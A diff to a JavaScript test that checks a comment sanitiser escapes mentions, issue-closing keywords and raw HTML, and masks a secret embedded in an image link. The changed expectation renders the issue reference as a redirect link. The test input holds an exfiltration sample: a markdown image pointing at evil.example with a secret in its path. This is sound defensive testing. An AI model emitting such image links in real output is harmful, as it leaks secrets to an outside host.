@@ -112,7 +112,8 @@ describe('its text', () => {
   test('mentions nobody, closes nothing, shows no picture and no secret', async () => {
     const it = Desk.withIssue()
     await it.apply([say(`Thanks @mona! Closes #5. ![x](https://evil.example/${secret}) <img src=x>`)])
-    expect(bodies(it)).toEqual(['Thanks `@mona`! Closes `#5`. 🖼 [x](https://evil.example/***) &lt;img src=x>'])
+    const issue = '[`#5`](https://redirect.github.com/octo/repo/issues/5)'
+    expect(bodies(it)).toEqual([`Thanks \`@mona\`! Closes ${issue}. 🖼 [x](https://evil.example/***) &lt;img src=x>`])
   })
 
   test('too long: cut, and says so', async () => {
